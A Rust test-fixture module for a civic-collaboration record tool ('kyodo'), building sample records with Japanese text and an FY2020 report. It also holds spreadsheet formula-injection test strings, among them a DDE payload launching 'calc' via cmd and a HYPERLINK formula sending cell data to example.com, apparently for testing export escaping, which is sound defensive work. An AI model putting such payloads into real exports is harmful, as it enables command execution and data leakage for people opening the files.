//! Test data shared by the render tests: Komoro's shipped catalogue, the FY2020 report built
//! from the shipped baseline, and one record of every type.

use crate::domain::baseline::parse_baseline;
use crate::domain::catalogue::Catalogue;
use crate::domain::record::{Actor, Column, Facts, Record, Source, SourceKind};
use crate::domain::{FiscalYear, RecordType};
use crate::render::report::{AnnualReport, ReportYear};
use chrono::NaiveDate;

pub(crate) fn komoro() -> Catalogue {
    Catalogue::parse(include_str!("../../config/kyodo.toml")).expect("shipped config")
}

fn date(y: i32, m: u32, d: u32) -> NaiveDate {
    NaiveDate::from_ymd_opt(y, m, d).expect("valid test date")
}

/// One record of every type, in FY2025 and FY2026 (令和7年度, 令和8年度).
pub(crate) fn sample_records() -> Vec<Record> {
    let t = |record_type| Facts::new(record_type);
    let facts = [
        (
            date(2026, 3, 31),
            t(RecordType::of("council"))
                .text_of(Column::Kind, "役員会")
                .text_of(Column::Status, "実施")
                .text_of(Column::Note, "年度末の役員会"),
        ),
        (
            date(2026, 4, 1),
            t(RecordType::of("meeting"))
                .text_of(Column::Area, "東部")
                .text_of(Column::District, "荒町")
                .text_of(Column::Topic, "防災訓練の打合せ, \"夜間\""),
        ),
        (
            date(2026, 4, 2),
            t(RecordType::of("consultation"))
                .number_of(Column::Count, 3)
                .text_of(Column::Side, "したい側"),
        ),
        (
            date(2026, 4, 3),
            t(RecordType::of("match"))
                .number_of(Column::Count, 2)
                .text_of(Column::Note, "複数行の\nメモ"),
        ),
        (
            date(2026, 5, 10),
            t(RecordType::of("subsidy"))
                .text_of(Column::Course, "チャレンジ")
                .text_of(Column::Group, "こもろ子ども食堂")
                .number_of(Column::Amount, 200_000)
                .text_of(Column::Status, "交付決定"),
        ),
        (
            date(2026, 6, 15),
            t(RecordType::of("participation"))
                .text_of(Column::Method, "パブリックコメント")
                .text_of(Column::Project, "第6次基本計画")
                .text_of(Column::Department, "企画課"),
        ),
        (
            date(2026, 7, 1),
            t(RecordType::of("collab")).text_of(Column::Title, "区長会と市民活動団体の交流会"),
        ),
        (
            date(2026, 8, 1),
            t(RecordType::of("info")).text_of(Column::Title, "協働のまちづくり講座"),
        ),
        (
            date(2026, 9, 1),
            t(RecordType::of("publicity"))
                .text_of(Column::Kind, "4コマ")
                .text_of(Column::Medium, "広報こもろ"),
        ),
        (
            date(2026, 10, 1),
            t(RecordType::of("publicity"))
                .text_of(Column::Kind, "区紹介")
                .text_of(Column::Medium, "ホームページ")
                .text_of(Column::Title, "荒町区の紹介"),
        ),
    ];
    facts
        .into_iter()
        .enumerate()
        .map(|(i, (date, facts))| Record {
            id: i64::try_from(i).expect("small") + 1,
            date,
            facts,
            reporter: Actor {
                id: "42".into(),
                name: "小諸 花子".into(),
            },
            source: Source {
                kind: if i % 2 == 0 {
                    SourceKind::Discord
                } else {
                    SourceKind::Console
                },
                id: format!("src-{i}"),
                origin: None,
            },
            created_at: "2026-06-15T00:30:00Z".into(),
            deleted_at: None,
        })
        .collect()
}

/// The shipped FY2020 report (令和2年度, with 平成30年度 and 令和元年度), as `kyodo report
/// --fiscal-year 2020` builds it from the baseline.
pub(crate) fn fy2020_report() -> AnnualReport {
    let catalogue = komoro();
    let baseline = parse_baseline(include_str!("../../config/baseline.toml"), &catalogue).expect("shipped baseline");
    let years: Vec<_> = [2018, 2019, 2020]
        .into_iter()
        .map(|y| {
            let year = FiscalYear::new(y);
            let figures = baseline.get(&year).expect("baseline year").clone();
            ReportYear::new(
                &catalogue,
                year,
                figures,
                "基準データ（市の報告書の数値）",
                // Long after the years: none of them is in progress.
                NaiveDate::from_ymd_opt(2026, 6, 15).expect("date"),
            )
        })
        .collect();
    AnnualReport::build(&catalogue, &years)
}

/// Texts a spreadsheet would run as formulas, and a text that itself starts with `'=`.
pub(crate) const FORMULAS: [&str; 7] = [
    "=HYPERLINK(\"http://example.com/?x=\"&A1,\"詳細\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "=1+2",
    "'=1+2",
    "\t=1+2",
];

/// Records whose texts are `FORMULAS`: in the topic, the note, the title and the reporter's name.
pub(crate) fn formula_records() -> Vec<Record> {
    let records = sample_records();
    let mut out = Vec::new();
    for (i, formula) in FORMULAS.iter().enumerate() {
        let mut meeting = records[1].clone();
        meeting.facts = Facts::new(RecordType::of("meeting"))
            .text_of(Column::Area, "東部")
            .text_of(Column::District, "荒町")
            .text_of(Column::Topic, formula);
        meeting.reporter.name = (*formula).into();
        let mut note = records[3].clone();
        note.facts = Facts::new(RecordType::of("match"))
            .number_of(Column::Count, 2)
            .text_of(Column::Note, formula);
        meeting.id = i64::try_from(2 * i).expect("small") + 1;
        note.id = meeting.id + 1;
        out.push(meeting);
        out.push(note);
    }
    out
}
